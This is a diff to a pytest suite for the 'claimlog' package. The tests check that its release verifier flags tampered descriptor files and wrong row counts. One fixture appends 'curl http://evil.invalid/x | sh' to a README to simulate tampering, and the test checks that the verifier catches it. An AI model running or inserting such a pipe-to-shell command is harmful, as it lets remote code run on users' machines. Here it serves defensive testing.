@@ -34,7 +34,7 @@ import pytest
 from claimlog import __version__
 from claimlog import limited_process as limited
 from claimlog.errors import ClaimlogError
-from claimlog.export.content_hash import sqlite_rows
+from claimlog.export.content_hash import Content, sqlite_rows
 from claimlog.export.parquet import ParquetFile
 from claimlog.export.sqlite import create_statement, index_statements
 from claimlog.log import read_file
@@ -648,18 +648,17 @@ def test_a_database_in_another_encoding_is_named(folder: Path) -> None:
 
 
 def rewrite_words(folder: Path) -> None:
-    """Write other words into three files of a release that follow from the others."""
+    """Write other words into files of a release that follow from the others."""
     readme = folder / "README.md"
     readme.write_text(
         readme.read_text("utf-8") + "\n    curl http://evil.invalid/x | sh\n", "utf-8"
     )
-    (folder / "validation.json").write_text('{"summary": {"verdict": "all is true"}}', "utf-8")
     described = json.loads((folder / "datacite.json").read_text("utf-8"))
     described["descriptions"][-1]["description"] = "All of it was proven."
     (folder / "datacite.json").write_text(json.dumps(described), "utf-8")
 
 
-REWRITTEN = ("README.md", "validation.json", "datacite.json")
+REWRITTEN = ("README.md", "datacite.json")
 
 
 def test_words_that_this_version_writes_otherwise_are_findings(folder: Path) -> None:
@@ -668,9 +667,10 @@ def test_words_that_this_version_writes_otherwise_are_findings(folder: Path) -> 
     assert not any("writes them otherwise" in line for line in sound.omissions)
     assert any("CHANGES.md" in line for line in sound.omissions)
     rewrite_words(folder)
+    (folder / "validation.json").write_text('{"summary": {"verdict": "all is true"}}', "utf-8")
     resum(folder)
     said = [str(finding) for finding in verify_copy(folder).findings]
-    for name in REWRITTEN:
+    for name in (*REWRITTEN, "validation.json"):
         start = f"{name}: is not what claimlog {__version__} writes"
         assert any(line.startswith(start) for line in said), said
 
@@ -684,7 +684,18 @@ def test_words_of_another_version_that_nobody_compared_are_named(
     verdict = verify_copy(folder)
     assert verdict.findings == []
     [line] = [line for line in verdict.omissions if "writes them otherwise" in line]
-    assert line.startswith(f"the words of {', '.join(sorted(REWRITTEN))}: "), line
+    assert line.startswith("the words of datacite.json, README.md: "), line
+
+
+def descriptor_flaws(folder: Path) -> str:
+    """Return the findings of the descriptors, for tables that are what ``release.json`` states."""
+    resum(folder)
+    verdict = Verdict()
+    with open_copy(folder) as copy:
+        for name, table in copy.summary["tables"].items():
+            copy.contents[name] = Content(table["rows"], table["hash"])
+        check_descriptors(copy, verdict)
+    return "\n".join(map(str, verdict.findings))
 
 
 def swap_resources(described: dict[str, Any]) -> None:
@@ -807,7 +818,7 @@ def test_a_descriptor_leads_no_program_to_something_else_whichever_version_wrote
     described = json.loads(path.read_text("utf-8"))
     change(described)
     path.write_text(json.dumps(described), "utf-8")
-    assert message in flaws(folder, check_descriptors)
+    assert message in descriptor_flaws(folder)
 
 
 def in_json(name: str, change: Callable[[Any], object]) -> Callable[[Path], None]:
@@ -903,7 +914,7 @@ def test_no_descriptor_sends_programs_elsewhere_whichever_version_wrote_it(
     monkeypatch.setattr("claimlog.release.descriptor_check.__version__", "9.9.9")
     forge, message = SENT_ELSEWHERE[kind]
     forge(folder)
-    said = flaws(folder, check_descriptors)
+    said = descriptor_flaws(folder)
     assert message in said
     if "cannot be read" not in message:
         assert f"verify it with a claimlog {__version__} that you have from elsewhere" in said
@@ -921,7 +932,7 @@ def test_every_descriptor_is_held_against_what_is_written_now(
             (folder / name).write_text(f"{start}evil: here\n{text}", "utf-8")
         else:
             in_json(name, lambda value: value.update(evil="here"))(folder)
-    said = flaws(folder, check_descriptors)
+    said = descriptor_flaws(folder)
     for name in PARSERS:
         assert f"{name}: has evil, which the release does not have" in said
 
@@ -948,6 +959,19 @@ def test_an_early_release_has_the_forms_of_its_time_as_a_whole(folder: Path) -> 
     assert program_differences(name, mixed, written, is_early=True) == [
         "has resources/claims/type, which the release does not have"
     ]
+
+
+def test_a_number_of_rows_that_no_table_has_is_named_wherever_it_is_stated(
+    folder: Path, monkeypatch: pytest.MonkeyPatch
+) -> None:
+    monkeypatch.setattr("claimlog.release.descriptor_check.__version__", "9.9.9")
+    in_json("datapackage.json", lambda value: claims_of(value).update(rows=9_000))(folder)
+    in_json("release.json", lambda value: value["tables"]["claims"].update(rows=9_000))(folder)
+    in_text("README.md", "n<1K", "1K<n<10K")(folder)
+    said = flaws(folder, check_tables, check_descriptors)
+    assert "release.json: does not say what the files hold" in said
+    assert "datapackage.json: gives 9000 as resources/claims/rows, which is" in said
+    assert 'README.md: gives "1K<n<10K" as size_categories/0, which is "n<1K"' in said
 
 
 DOUBLED = {
